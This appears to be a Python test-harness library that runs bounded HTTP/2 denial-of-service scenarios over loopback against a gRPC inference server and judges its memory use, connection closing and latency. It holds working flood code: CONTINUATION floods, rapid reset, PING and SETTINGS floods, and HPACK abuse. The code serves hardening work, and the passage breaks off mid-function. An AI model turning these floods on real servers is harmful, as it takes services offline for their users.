"""Denial-of-service scenarios over raw HTTP/2 frames, and the harness that judges a server by them
(issue 14). A library shared by ``tests/test_attacks.py`` and ``scripts/attack_probe.py``.

Each scenario talks to the server only through sockets on loopback: it writes hand-built frames
(HPACK literals without indexing, except where the attack is the encoding itself) and records what
comes back. Each is bounded by explicit counts and seconds, stops as soon as the server ends the
connection, and returns an :class:`AttackOutcome`. The volumes are the issue table's, scaled down
to run in seconds but kept above the 64 MB memory budget wherever the unprotected server keeps
what it is sent.

:func:`measure` runs one scenario against a server process: it samples the server's RSS from
``/proc/PID/status`` before, during and after, and runs a well-behaved client (the real Triton
client, in a process of its own so the attack's threads cannot delay it) on its own connection,
paced at a fixed rate with latencies taken from each request's scheduled time, so that a server
that stalls for a second shows it in its p99. :func:`judge` holds a :class:`Measurement` against
the issue's three goals.
"""
from __future__ import annotations

import functools
import math
import multiprocessing
import os
import queue
import select
import socket
import struct
import threading
import time
import zlib
from collections import Counter
from collections.abc import Callable
from dataclasses import dataclass
from typing import Literal

from hpack.hpack import encode_integer

# ---- the goals ---------------------------------------------------------------------------
RSS_BUDGET_MB = 64.0        # the server's RSS may grow by at most this during an attack...
RSS_RETURN_MB = 16.0        # ...and must be back within this of where it started soon after
CLOSE_WITHIN_S = 1.0        # the attacking connection is closed this soon after crossing a limit
P99_FACTOR = 3.0            # a well-behaved client's p99 during the attack, against its quiet p99
WARM_UP_S = 1.0             # the well-behaved client's first second counts neither as quiet nor as attacked
MIN_WINDOW_S = 2.0          # the well-behaved client is judged over at least this from the attack's start

# ---- the limits a protected server is expected to enforce (where a scenario's "limit" is) --------
CONTROL_QUEUE_LIMIT = 10_000    # queued control-frame replies (Go's maxQueuedControlFrames)
RESET_LIMIT = 1_000             # streams reset by the client (nghttp2's stream-reset burst)
STALL_S = 1.0                   # a send that made no progress this long: the server stopped reading
HANDSHAKE_TIMEOUT_S = 5.0       # a connection that has not sent its SETTINGS by then is closed
DEFAULT_HEADER_LIST = 65_536    # when the server advertises no SETTINGS_MAX_HEADER_LIST_SIZE

# ---- HTTP/2 (RFC 9113) ---------------------------------------------------------------------------
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PUSH_PROMISE, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = range(10)
END_STREAM = ACK = 0x1
END_HEADERS = 0x4
HEADER_TABLE_SIZE, ENABLE_PUSH, MAX_CONCURRENT_STREAMS, INITIAL_WINDOW_SIZE, MAX_FRAME_SIZE, \
    MAX_HEADER_LIST_SIZE = range(1, 7)
ERROR_NAMES = ("NO_ERROR", "PROTOCOL_ERROR", "INTERNAL_ERROR", "FLOW_CONTROL_ERROR", "SETTINGS_TIMEOUT",
               "STREAM_CLOSED", "FRAME_SIZE_ERROR", "REFUSED_STREAM", "CANCEL", "COMPRESSION_ERROR",
               "CONNECT_ERROR", "ENHANCE_YOUR_CALM", "INADEQUATE_SECURITY", "HTTP_1_1_REQUIRED")
MAX_WINDOW = 2**31 - 1
CANCEL = 0x8

MODEL_INFER = "/inference.GRPCInferenceService/ModelInfer"
SERVER_LIVE = "/inference.GRPCInferenceService/ServerLive"

_FRAME_HEADER = struct.Struct(">IBI")


def error_name(code: int | None) -> str:
    if code is None:
        return "-"
    return ERROR_NAMES[code] if code < len(ERROR_NAMES) else f"0x{code:x}"


def frame(ftype: int, flags: int, stream_id: int, payload: bytes = b"") -> bytes:
    return _FRAME_HEADER.pack(len(payload) << 8 | ftype, flags, stream_id) + payload


def settings_frame(*pairs: tuple[int, int]) -> bytes:
    return frame(SETTINGS, 0, 0, b"".join(struct.pack(">HI", key, value) for key, value in pairs))


def header_frames(stream_id: int, block: bytes, max_frame: int, flags: int = 0) -> bytes:
    """``block`` as HEADERS (+ CONTINUATION) frames of at most ``max_frame`` bytes; ``flags`` may
    carry END_STREAM, END_HEADERS goes on the last frame."""
    if len(block) <= max_frame:
        return frame(HEADERS, flags | END_HEADERS, stream_id, block)
    parts = [frame(HEADERS, flags, stream_id, block[:max_frame])]
    for i in range(max_frame, len(block), max_frame):
        last = i + max_frame >= len(block)
        parts.append(frame(CONTINUATION, END_HEADERS if last else 0, stream_id, block[i:i + max_frame]))
    return b"".join(parts)


def data_frames(stream_id: int, body: bytes, max_frame: int, end_stream: bool = True) -> bytes:
    parts = [frame(DATA, 0, stream_id, body[i:i + max_frame]) for i in range(0, len(body), max_frame)] or \
        [frame(DATA, 0, stream_id)]
    if end_stream:
        last = parts[-1]
        parts[-1] = last[:4] + bytes([END_STREAM]) + last[5:]
    return b"".join(parts)


# ---- HPACK (RFC 7541), the client's side: literals only, never indexed ---------------------------
def hpack_int(value: int, prefix_bits: int, flags: int = 0) -> bytes:
    """``value`` as an HPACK integer with a ``prefix_bits`` prefix, ``flags`` in the high bits."""
    out = encode_integer(value, prefix_bits)
    out[0] |= flags
    return bytes(out)


def literal(name: bytes, value: bytes) -> bytes:
    """A literal header field without indexing, with a literal name (RFC 7541 6.2.2)."""
    return b"\x00" + hpack_int(len(name), 7) + name + hpack_int(len(value), 7) + value


def request_block(path: str, *extra: tuple[bytes, bytes]) -> bytes:
    """A gRPC request's header block: what any client sends, plus ``extra`` fields."""
    fields = [(b":method", b"POST"), (b":scheme", b"http"), (b":path", path.encode()),
              (b":authority", b"127.0.0.1"), (b"content-type", b"application/grpc"), (b"te", b"trailers"),
              *extra]
    return b"".join(literal(name, value) for name, value in fields)


def grpc_message(payload: bytes, compressed: bool = False) -> bytes:
    return struct.pack(">BI", int(compressed), len(payload)) + payload


def simple_request() -> bytes:
    """A ModelInferRequest for the ``simple`` example model (INPUT0, INPUT1 int32 [1, 16])."""
    from tritonclient.grpc import service_pb2
    request = service_pb2.ModelInferRequest(model_name="simple")
    for name in ("INPUT0", "INPUT1"):
        request.inputs.add(name=name, datatype="INT32", shape=[1, 16])
        request.raw_input_contents.append(struct.pack("<16i", *range(16)))
    return request.SerializeToString()


def mlp_request(batch: int) -> bytes:
    """A ModelInferRequest for the ``mlp`` example model (input float32 [batch, 512])."""
    from tritonclient.grpc import service_pb2
    request = service_pb2.ModelInferRequest(model_name="mlp")
    request.inputs.add(name="input", datatype="FP32", shape=[batch, 512])
    request.raw_input_contents.append(struct.pack(f"<{batch * 512}f", *([0.25] * (batch * 512))))
    return request.SerializeToString()


# ---- one attacking connection --------------------------------------------------------------------
@dataclass(frozen=True)
class ServerSettings:
    max_frame_size: int = 16_384
    max_concurrent_streams: int | None = None
    max_header_list_size: int | None = None
    initial_window_size: int = 65_535


class HandshakeFailed(Exception):
    """The server did not answer the connection preface with SETTINGS."""


class RawConnection:
    """A client socket that writes raw frames, plus (unless ``read=False``) a reader thread that
    parses what the server sends: GOAWAY, RST_STREAM, trailers' grpc-status, EOF, reset.

    The socket is non-blocking and every wait is bounded: :meth:`send` gives up at ``deadline``
    (monotonic seconds), marking the connection ``stalled``: the server stopped reading."""

    def __init__(self, address: tuple[str, int], *, deadline: float, rcvbuf: int | None = None) -> None:
        self.sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        if rcvbuf is not None:      # before connect: a small window the server fills at once
            self.sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, rcvbuf)
        self.sock.settimeout(5.0)
        self.sock.connect(address)
        self.sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.sock.setblocking(False)
        self.deadline = deadline
        self.bytes_sent = 0
        self.stalled = False                    # the server took no byte for STALL_S before the deadline
        self._progress_at = time.monotonic()
        self.server = ServerSettings()
        self.closed: str | None = None          # "goaway", "eof", "reset"
        self.closed_at: float | None = None     # monotonic
        self.goaway_code: int | None = None
        self.goaway_debug = ""
        self.rst_streams: Counter[int] = Counter()      # error code -> count
        self.first_rst_at: float | None = None
        self.reset_stream_ids: set[int] = set()
        self.statuses: Counter[str] = Counter()          # trailers' grpc-status -> count
        self.messages: list[str] = []                    # trailers' grpc-message values, decoded
        self.frames_received: Counter[int] = Counter()
        self.errors: list[str] = []
        self._buffer = bytearray()
        self._block: bytearray | None = None            # a header block being received
        self._decoder = None
        self._changed = threading.Condition()
        self._stop = False
        self._reader: threading.Thread | None = None

    # ---- opening ----
    @classmethod
    def open(cls, address: tuple[str, int], *, deadline: float, read: bool = True,
             rcvbuf: int | None = None) -> "RawConnection":
        """Connect, send the preface and SETTINGS with the largest receive windows (the server may
        send all it wants), wait for the server's SETTINGS and acknowledge them; then read in a
        thread unless ``read`` is False (the attack never reads)."""
        conn = cls(address, deadline=deadline, rcvbuf=rcvbuf)
        conn.send(PREFACE + settings_frame((ENABLE_PUSH, 0), (INITIAL_WINDOW_SIZE, MAX_WINDOW))
                  + frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", MAX_WINDOW - 65_535)))
        handshake_until = min(deadline, time.monotonic() + 5.0)
        got_settings = False
        while not got_settings and conn.closed is None:
            if not conn._receive_once(handshake_until):
                break
            got_settings = conn.frames_received[SETTINGS] > 0
        if not got_settings:
            conn.close()
            raise HandshakeFailed(f"no SETTINGS from the server ({conn.closed or 'timed out'})")
        conn.send(frame(SETTINGS, ACK, 0))
        if read:
            conn._reader = threading.Thread(target=conn._read_loop, name="h2attacks-reader", daemon=True)
            conn._reader.start()
        return conn

    # ---- sending ----
    def send(self, data: bytes) -> bool:
        """Write all of ``data``; False (and nothing more is sent) once the server has closed the
        connection or stopped reading until the deadline."""
        if self.closed is not None or time.monotonic() >= self.deadline:
            return False
        view = memoryview(data)
        poller = select.poll()
        poller.register(self.sock, select.POLLOUT)
        while view:
            try:
                n = self.sock.send(view)
            except BlockingIOError:
                now = time.monotonic()
                left = self.deadline - now
                if left <= 0:
                    self.stalled = self.stalled or now - self._progress_at >= STALL_S
                    self.deadline = now         # nothing more is sent
                    return False
                poller.poll(min(left, 0.5) * 1000)
                continue
            except OSError as exc:
                self._closed_by_server("reset", f"send: {exc.strerror or exc}")
                return False
            self.bytes_sent += n
            self._progress_at = time.monotonic()
            view = view[n:]
        return True

    # ---- receiving ----
    def _receive_once(self, until: float) -> bool:
        """Read what is there (waiting until ``until`` at most) and handle whole frames; False on
        EOF, reset or timeout."""
        left = until - time.monotonic()
        if left <= 0:
            return False
        ready, _, _ = select.select([self.sock], [], [], min(left, 0.2))
        if not ready:
            return time.monotonic() < until
        try:
            chunk = self.sock.recv(1 << 20)
        except BlockingIOError:
            return True
        except OSError as exc:
            self._closed_by_server("reset", f"recv: {exc.strerror or exc}")
            return False
        if not chunk:
            self._closed_by_server("eof", None)
            return False
        self._buffer += chunk
        self._parse()
        return True

    def _read_loop(self) -> None:
        while not self._stop and self.closed is None:
            self._receive_once(time.monotonic() + 0.2)

    def _parse(self) -> None:
        buf = self._buffer
        pos = 0
        while len(buf) - pos >= 9:
            length_type, flags, stream_id = _FRAME_HEADER.unpack_from(buf, pos)
            end = pos + 9 + (length_type >> 8)
            if end > len(buf):
                break
            self._on_frame(length_type & 0xFF, flags, stream_id & 0x7FFFFFFF, bytes(buf[pos + 9:end]))
            pos = end
        del buf[:pos]

    def _on_frame(self, ftype: int, flags: int, stream_id: int, payload: bytes) -> None:
        with self._changed:
            self.frames_received[ftype] += 1
            if ftype == SETTINGS and not flags & ACK:
                values = dict(struct.unpack_from(">HI", payload, i) for i in range(0, len(payload) - 5, 6))
                self.server = ServerSettings(
                    max_frame_size=values.get(MAX_FRAME_SIZE, self.server.max_frame_size),
                    max_concurrent_streams=values.get(MAX_CONCURRENT_STREAMS, self.server.max_concurrent_streams),
                    max_header_list_size=values.get(MAX_HEADER_LIST_SIZE, self.server.max_header_list_size),
                    initial_window_size=values.get(INITIAL_WINDOW_SIZE, self.server.initial_window_size))
            elif ftype == GOAWAY and len(payload) >= 8:
                self.goaway_code = struct.unpack_from(">I", payload, 4)[0]
                self.goaway_debug = payload[8:200].decode("utf-8", "replace")
                self._closed_by_server("goaway", None, notify=False)
            elif ftype == RST_STREAM and len(payload) == 4:
                self.rst_streams[struct.unpack(">I", payload)[0]] += 1
                self.reset_stream_ids.add(stream_id)
                if self.first_rst_at is None:
                    self.first_rst_at = time.monotonic()
            elif ftype == HEADERS:
                start, stop = 0, len(payload)
                if flags & 0x8:                         # PADDED
                    start, stop = 1, stop - payload[0]
                if flags & 0x20:                        # PRIORITY
                    start += 5
                self._block = bytearray(payload[start:stop])
                if flags & END_HEADERS:
                    self._header_block()
            elif ftype == CONTINUATION and self._block is not None:
                self._block += payload
                if flags & END_HEADERS:
                    self._header_block()
            self._changed.notify_all()

    def _header_block(self) -> None:
        block, self._block = bytes(self._block), None
        if self._decoder is False:
            return
        if self._decoder is None:
            import hpack
            self._decoder = hpack.Decoder()
            self._decoder.max_allowed_table_size = 1 << 16
        try:
            fields = self._decoder.decode(block, raw=True)
        except Exception as exc:        # the server's encoding is not ours to judge; stop decoding
            self.errors.append(f"cannot decode the server's header block: {exc!r}")
            self._decoder = False
            return
        for name, value in fields:
            if name == b"grpc-status":
                self.statuses[value.decode("latin-1")] += 1
            elif name == b"grpc-message":
                from urllib.parse import unquote
                self.messages.append(unquote(value.decode("latin-1")))

    def _closed_by_server(self, how: str, error: str | None, notify: bool = True) -> None:
        with self._changed:
            if self.closed is None:
                self.closed = how
                self.closed_at = time.monotonic()
            if error:
                self.errors.append(error)
            if notify:
                self._changed.notify_all()

    def wait_for(self, predicate: Callable[["RawConnection"], bool], until: float) -> bool:
        """Wait (at most until monotonic ``until``) for ``predicate(self)``, re-checked whenever a
        frame arrives or the connection ends. Needs the reader thread."""
        with self._changed:
            while not predicate(self):
                left = until - time.monotonic()
                if left <= 0 or (self.closed is not None and self.closed != "goaway") or \
                        (self._reader is not None and not self._reader.is_alive()):
                    return predicate(self)
                self._changed.wait(min(left, 0.2))
            return True

    def wait_closed(self, until: float) -> bool:
        """For connections that do not read: probe with small PINGs until the server's reset
        shows, or ``until``. For reading ones: wait for GOAWAY, EOF or reset."""
        if self._reader is not None:
            return self.wait_for(lambda c: c.closed is not None, until)
        while self.closed is None and time.monotonic() < until:
            saved, self.deadline = self.deadline, until
            self.send(frame(PING, 0, 0, b"closed?\x00"))
            self.deadline = saved
            if self.closed is None:
                time.sleep(0.05)
        return self.closed is not None

    def close(self) -> None:
        self._stop = True
        if self._reader is not None:
            self._reader.join(2.0)
        try:
            self.sock.close()
        except OSError:
            pass


# ---- what an attack returns ----------------------------------------------------------------------
@dataclass(frozen=True)
class AttackOutcome:
    """What one scenario did and what the server answered. Times are seconds from the attack's
    start. ``limit_after`` is when the attack crossed the limit a protected server enforces
    (None if it never did: the server closed first, or the bounds ran out)."""
    attack: str
    connections: int
    bytes_sent: int
    frames_sent: int
    seconds: float
    limit_after: float | None
    closed: str | None = None          # how the server ended the attacking connection(s)
    closed_after: float | None = None
    goaway_code: int | None = None
    goaway_debug: str = ""
    stalled: bool = False              # the server stopped reading and our sends waited out their time
    first_rst_after: float | None = None
    rst_streams: int = 0
    statuses: tuple[tuple[str, int], ...] = ()     # grpc-status of the trailers received, with counts
    calls: int = 0                     # gRPC calls the attack completed on the wire (where it counts them)
    errors: tuple[str, ...] = ()
    note: str = ""

    @property
    def close_delay(self) -> float | None:
        """Seconds from crossing the limit to the server closing (0 if it closed before)."""
        if self.closed_after is None:
            return None
        if self.limit_after is None:
            return 0.0
        return max(0.0, self.closed_after - self.limit_after)


def _outcome(attack: str, started: float, conns: list[RawConnection], frames_sent: int,
             limit_at: float | None, note: str, *, all_must_close: bool = True, calls: int = 0) -> AttackOutcome:
    """Summarise ``conns`` (the attack's connections). With several, the attack counts as closed
    only once all of them are, at the last one's time."""
    closed_times = [c.closed_at for c in conns if c.closed_at is not None]
    if conns and len(closed_times) == len(conns):
        closed_at = max(closed_times)
    elif closed_times and not all_must_close:
        closed_at = min(closed_times)
    else:
        closed_at = None
    how = sorted({c.closed for c in conns if c.closed})
    rst_times = [c.first_rst_at for c in conns if c.first_rst_at is not None]
    goaway = next((c for c in conns if c.goaway_code is not None), None)
    statuses: Counter[str] = Counter()
    rst = 0
    errors: list[str] = []
    for c in conns:
        statuses.update(c.statuses)
        rst += sum(c.rst_streams.values())
        errors.extend(c.errors)
    return AttackOutcome(
        attack=attack, connections=len(conns), bytes_sent=sum(c.bytes_sent for c in conns),
        frames_sent=frames_sent, seconds=round(time.monotonic() - started, 3),
        limit_after=None if limit_at is None else round(limit_at - started, 3),
        closed="+".join(how) if closed_at is not None else None,
        closed_after=None if closed_at is None else round(closed_at - started, 3),
        goaway_code=goaway.goaway_code if goaway else None, goaway_debug=goaway.goaway_debug if goaway else "",
        stalled=any(c.stalled for c in conns),
        first_rst_after=round(min(rst_times) - started, 3) if rst_times else None,
        rst_streams=rst, statuses=tuple(sorted(statuses.items())), calls=calls,
        errors=tuple(dict.fromkeys(errors))[:5], note=note)


def _frame_size(conn: RawConnection, cap: int = 1 << 20) -> int:
    """The largest frame payload to send: the server's MAX_FRAME_SIZE, at most ``cap``, a whole
    number of 4 KiB (so repeated 4 KiB header fields tile frames exactly)."""
    return max(16_384, min(conn.server.max_frame_size, cap) // 4096 * 4096)


def _header_list_limit(conn: RawConnection) -> int:
    return conn.server.max_header_list_size or DEFAULT_HEADER_LIST


def _finish(conn: RawConnection) -> None:
    """After the attack's last frame: give the server CLOSE_WITHIN_S (and a little) to close."""
    conn.wait_closed(time.monotonic() + CLOSE_WITHIN_S + 0.5)


# ---- the attacks, in the issue table's order -----------------------------------------------------
_FILL_FIELD = literal(b"x-flood", b"a" * 4084)      # exactly 4096 bytes: frames are whole fields
assert len(_FILL_FIELD) == 4096


def continuation_flood(address: tuple[str, int], *, total_bytes: int = 96 << 20,
                       seconds: float = 10.0) -> AttackOutcome:
    """CVE-2024-27316 class: HEADERS without END_HEADERS, then CONTINUATION frames of the largest
    size the server allows, never ending the block. The limit: the block passes the header list
    size the server advertised (64 KiB if none)."""
    started = time.monotonic()
    conn = RawConnection.open(address, deadline=started + seconds)
    try:
        size = _frame_size(conn)
        limit = _header_list_limit(conn)
        continuation = frame(CONTINUATION, 0, 1, _FILL_FIELD * (size // 4096))
        frames = 1
        sent_block = 0
        limit_at = None
        ok = conn.send(frame(HEADERS, 0, 1, request_block(MODEL_INFER)))
        while ok and sent_block < total_bytes and time.monotonic() < conn.deadline:
            ok = conn.send(continuation)
            if ok:
                frames += 1
                sent_block += size
                if limit_at is None and sent_block > limit:
                    limit_at = time.monotonic()
        _finish(conn)
        return _outcome("continuation_flood", started, [conn], frames, limit_at,
                        f"{sent_block / 2**20:.0f} MiB of header block in {frames - 1} CONTINUATION frames "
                        f"of {size} B (limit {limit} B)")
    finally:
        conn.close()


def _queued_reply_limit(conn: RawConnection, reply_size: int) -> int:
    """Frames a client that never reads may send before a server that keeps at most
    CONTROL_QUEUE_LIMIT replies queued must act: the limit, plus what the kernel's socket buffers
    (the server's largest send buffer and our receive buffer) hold without the server knowing."""
    try:
        with open("/proc/sys/net/ipv4/tcp_wmem") as f:
            send_buffer = int(f.read().split()[2])
    except OSError:
        send_buffer = 4 << 20
    receive_buffer = conn.sock.getsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF)
    return CONTROL_QUEUE_LIMIT + (send_buffer + receive_buffer) // reply_size


def _control_flood(name: str, address: tuple[str, int], one: bytes, reply_size: int, frames: int,
                   seconds: float) -> AttackOutcome:
    started = time.monotonic()
    conn = RawConnection.open(address, deadline=started + seconds, read=False, rcvbuf=16_384)
    try:
        limit = _queued_reply_limit(conn, reply_size)
        batch_frames = 2048
        batch = one * batch_frames
        sent = 0
        limit_at = None
        while sent < frames and time.monotonic() < conn.deadline and conn.send(batch):
            sent += batch_frames
            if limit_at is None and sent > limit:
                limit_at = time.monotonic()
        _finish(conn)
        return _outcome(name, started, [conn], sent, limit_at,
                        f"{sent:,} frames never read ({sent * reply_size / 2**20:.0f} MiB of replies owed); "
                        f"limit {limit:,} frames")
    finally:
        conn.close()


def ping_flood(address: tuple[str, int], *, frames: int = 6_000_000, seconds: float = 12.0) -> AttackOutcome:
    """PINGs from a client that never reads: every ACK is owed. The limit: more unread ACKs than
    CONTROL_QUEUE_LIMIT beyond what socket buffers hold."""
    return _control_flood("ping_flood", address, frame(PING, 0, 0, b"\x00" * 8), 17, frames, seconds)


def settings_flood(address: tuple[str, int], *, frames: int = 8_000_000, seconds: float = 12.0) -> AttackOutcome:
    """Empty SETTINGS frames from a client that never reads: every ACK is owed. Limit as for PINGs."""
    return _control_flood("settings_flood", address, frame(SETTINGS, 0, 0), 9, frames, seconds)


def settings_window_churn(address: tuple[str, int], *, streams: int = 4096, entries: int = 8_000,
                          seconds: float = 12.0) -> AttackOutcome:
    """Open streams (as many as allowed, at most ``streams``), then SETTINGS frames carrying
    ``entries`` INITIAL_WINDOW_SIZE entries in all: a naive server walks every stream per entry.
    The limit: the first SETTINGS frame (far more entries than any client needs; nghttp2 allows
    32). ``note`` has how long the server took to acknowledge them."""
    started = time.monotonic()
    conn = RawConnection.open(address, deadline=started + seconds)
    try:
        n = min(streams, conn.server.max_concurrent_streams or streams)
        block = request_block(MODEL_INFER)
        opened = 0
        ok = True
        for first in range(0, n, 256):
            count = min(256, n - first)
            ok = conn.send(b"".join(frame(HEADERS, END_HEADERS, 2 * (first + i) + 1, block) for i in range(count)))
            if not ok:
                break
            opened += count
        frames = opened
        # A PING after the streams: its ACK says the server has taken them all in.
        ok = ok and conn.send(frame(PING, 0, 0, b"streams!"))
        ok = ok and conn.wait_for(lambda c: c.frames_received[PING] >= 1, started + seconds / 2)
        per_frame = _frame_size(conn) // 6
        acks_before = conn.frames_received[SETTINGS]
        limit_at = None
        settings_frames = 0
        acked_after = None
        left = entries
        if ok:
            send_started = time.monotonic()
            while left > 0 and conn.closed is None:
                count = min(left, per_frame)
                payload = b"".join(struct.pack(">HI", INITIAL_WINDOW_SIZE, 65_535 + (i & 1)) for i in range(count))
                if not conn.send(frame(SETTINGS, 0, 0, payload)):
                    break
                if limit_at is None:
                    limit_at = time.monotonic()
                settings_frames += 1
                left -= count
            frames += settings_frames
            if conn.wait_for(lambda c: c.frames_received[SETTINGS] >= acks_before + settings_frames or
                             c.closed is not None, started + seconds) and conn.closed is None:
                acked_after = time.monotonic() - send_started
        _finish(conn)
        acked = "never acknowledged" if acked_after is None else f"acknowledged after {acked_after:.2f} s"
        return _outcome("settings_window_churn", started, [conn], frames, limit_at,
                        f"{opened} open streams, {entries - left:,} INITIAL_WINDOW_SIZE "
                        f"entries in {settings_frames} SETTINGS frames, {acked}")
    finally:
        conn.close()


def rapid_reset(address: tuple[str, int], *, streams: int = 100_000, seconds: float = 10.0) -> AttackOutcome:
    """CVE-2023-44487 class: HEADERS + DATA (a whole ModelInfer request for ``mlp``) + RST_STREAM
    (CANCEL), stream after stream. The limit: RESET_LIMIT resets. ``note`` counts the replies the
    server sent anyway (cancelled requests it executed)."""
    started = time.monotonic()
    conn = RawConnection.open(address, deadline=started + seconds)
    try:
        block = request_block(MODEL_INFER)
        body = grpc_message(mlp_request(1))
        size = _frame_size(conn)
        cancel = struct.pack(">I", CANCEL)
        batch = 64
        sent = 0
        limit_at = None
        while sent < streams and time.monotonic() < conn.deadline:
            ids = range(2 * sent + 1, 2 * (sent + batch) + 1, 2)
            if not conn.send(b"".join(frame(HEADERS, END_HEADERS, sid, block) + data_frames(sid, body, size)
                                      + frame(RST_STREAM, 0, sid, cancel) for sid in ids)):
                break
            sent += batch
            if limit_at is None and sent > RESET_LIMIT:
                limit_at = time.monotonic()
        _finish(conn)
        answered = sum(conn.statuses.values())
        return _outcome("rapid_reset", started, [conn], 3 * sent, limit_at,
                        f"{sent:,} streams reset; {answered:,} answered anyway "
                        f"({conn.statuses.get('0', 0):,} OK)")
    finally:
        conn.close()


def preface_only(address: tuple[str, int], *, connections: int = 100,
                 seconds: float = HANDSHAKE_TIMEOUT_S + CLOSE_WITHIN_S + 1.0) -> AttackOutcome:
    """Connections that send the 24-byte preface and nothing else (no SETTINGS) and never read.
    The limit: HANDSHAKE_TIMEOUT_S after the last one connected."""
    started = time.monotonic()
    socks: list[socket.socket] = []
    closed_at: dict[int, float] = {}
    errors: list[str] = []
    try:
        for _ in range(connections):
            sock = socket.create_connection(address, timeout=5.0)
            sock.sendall(PREFACE)
            sock.setblocking(False)
            socks.append(sock)
        limit_at = time.monotonic() + HANDSHAKE_TIMEOUT_S
        # One poll over them all: the server's SETTINGS are read and dropped; EOF or reset is closure.
        poller = select.poll()
        by_fd = {s.fileno(): s for s in socks}
        for s in socks:
            poller.register(s, select.POLLIN)
        until = started + seconds
        while len(closed_at) < len(socks) and time.monotonic() < until:
            for fd, _ in poller.poll(100):
                try:
                    chunk = by_fd[fd].recv(65536)
                except BlockingIOError:
                    continue
                except OSError as exc:
                    chunk = b""
                    errors.append(f"recv: {exc.strerror or exc}")
                if not chunk:
                    closed_at[fd] = time.monotonic()
                    poller.unregister(fd)
        all_closed = len(closed_at) == len(socks)
        last = max(closed_at.values()) if all_closed else None
        return AttackOutcome(
            attack="preface_only", connections=len(socks), bytes_sent=len(PREFACE) * len(socks),
            frames_sent=0, seconds=round(time.monotonic() - started, 3),
            limit_after=round(limit_at - started, 3), closed="eof" if all_closed else None,
            closed_after=None if last is None else round(last - started, 3),
            errors=tuple(dict.fromkeys(errors))[:5],
            note=f"{len(closed_at)} of {len(socks)} connections closed by the server within {seconds:.0f} s")
    finally:
        for sock in socks:
            sock.close()


def slow_reader(address: tuple[str, int], *, requests: int = 40_000, batch: int = 8,
                seconds: float = 10.0) -> AttackOutcome:
    """A client that opens its windows wide, sends ModelInfer requests for ``mlp`` (``batch`` rows,
    16 KiB each at 8) and never reads the replies. No limit is crossed: the server should stop
    reading (back-pressure) rather than queue the replies; ``stalled`` says it did."""
    started = time.monotonic()
    conn = RawConnection.open(address, deadline=started + seconds, read=False, rcvbuf=16_384)
    try:
        block = request_block(MODEL_INFER)
        body = grpc_message(mlp_request(batch))
        size = _frame_size(conn)
        per_send = 16
        sent = 0
        while sent < requests and time.monotonic() < conn.deadline:
            ids = range(2 * sent + 1, 2 * (sent + per_send) + 1, 2)
            if not conn.send(b"".join(frame(HEADERS, END_HEADERS, sid, block) + data_frames(sid, body, size)
                                      for sid in ids)):
                break
            sent += per_send
        return _outcome("slow_reader", started, [conn], 2 * sent, None,
                        f"{sent:,} requests sent ({sent * len(body) / 2**20:.0f} MiB), no reply read"
                        + ("; the server stopped reading" if conn.stalled else ""))
    finally:
        conn.close()


def _huffman_a(count: int) -> bytes:
    """``count`` (a multiple of 8) letters 'a' Huffman-coded: 'a' is 00011, 8 of them 5 bytes."""
    bits = int("00011" * 8, 2)
    return bits.to_bytes(5, "big") * (count // 8)


def huffman_header(address: tuple[str, int], *, value_bytes: int = 32 << 20, seconds: float = 10.0) -> AttackOutcome:
    """One header whose Huffman-coded value is ``value_bytes`` long (it decodes to 1.6 times as
    many letters), in HEADERS + CONTINUATION frames. The limit: the block passes the advertised
    header list size. ``note`` has how long after the last byte the server ended the connection."""
    started = time.monotonic()
    conn = RawConnection.open(address, deadline=started + seconds)
    try:
        encoded = _huffman_a(value_bytes // 5 * 8)
        block = request_block(MODEL_INFER) + b"\x00" + hpack_int(6, 7) + b"x-huff" + \
            hpack_int(len(encoded), 7, 0x80) + encoded
        size = _frame_size(conn)
        limit = _header_list_limit(conn)
        frames = 0
        limit_at = None
        for offset in range(0, len(block), size):
            chunk = block[offset:offset + size]
            last = offset + size >= len(block)
            ftype = HEADERS if offset == 0 else CONTINUATION
            if not conn.send(frame(ftype, END_HEADERS if last else 0, 1, chunk)):
                break
            frames += 1
            if limit_at is None and offset + len(chunk) > limit:
                limit_at = time.monotonic()
        done = time.monotonic()
        conn.wait_closed(max(started + seconds, done + CLOSE_WITHIN_S + 0.5))
        after = "not closed" if conn.closed_at is None else f"closed {conn.closed_at - done:.2f} s after the last byte"
        return _outcome("huffman_header", started, [conn], frames, limit_at,
                        f"{len(encoded) / 2**20:.0f} MiB Huffman value in {frames} frames; {after}")
    finally:
        conn.close()


_TABLE_SIZE_UPDATE = b"\x3f\xe1\x1f"     # dynamic table size update to 4096
assert _TABLE_SIZE_UPDATE == hpack_int(4096, 5, 0x20)


def table_size_updates(address: tuple[str, int], *, blocks: int = 16, block_bytes: int = 1 << 20,
                       seconds: float = 10.0) -> AttackOutcome:
    """Header blocks made of ``block_bytes`` of dynamic-table size updates, then a request, each on
    a new stream. The limit: the first block (more than the two updates a block may need, and
    bigger than the advertised header list size)."""
    started = time.monotonic()
    conn = RawConnection.open(address, deadline=started + seconds)
    try:
        block = _TABLE_SIZE_UPDATE * (block_bytes // 3) + request_block(SERVER_LIVE)
        size = _frame_size(conn)
        sent = 0
        limit_at = None
        while sent < blocks and time.monotonic() < conn.deadline:
            sid = 2 * sent + 1
            if not conn.send(header_frames(sid, block, size) + data_frames(sid, grpc_message(b""), size)):
                break
            sent += 1
            if limit_at is None:
                limit_at = time.monotonic()
        done = time.monotonic()
        _finish(conn)
        after = "not closed" if conn.closed_at is None else f"closed {conn.closed_at - done:.2f} s after the last block"
        return _outcome("table_size_updates", started, [conn], sent, limit_at,
                        f"{sent} blocks of {len(block) / 2**20:.1f} MiB ({block_bytes // 3:,} size updates each); {after}")
    finally:
        conn.close()


def decode_cache_fill(address: tuple[str, int], *, connections: int = 4, blocks: int = 512,
                      block_bytes: int = 48 << 10, seconds: float = 12.0) -> AttackOutcome:
    """``connections`` connections, each sending ``blocks`` distinct header blocks of about
    ``block_bytes`` (one big literal that never enters the dynamic table, under the advertised
    header list size), each a ServerLive call. No limit is crossed: the server's memory for
    decoding headers should stay bounded, and be returned when they close."""
    started = time.monotonic()
    conns: list[RawConnection] = []
    try:
        for _ in range(connections):
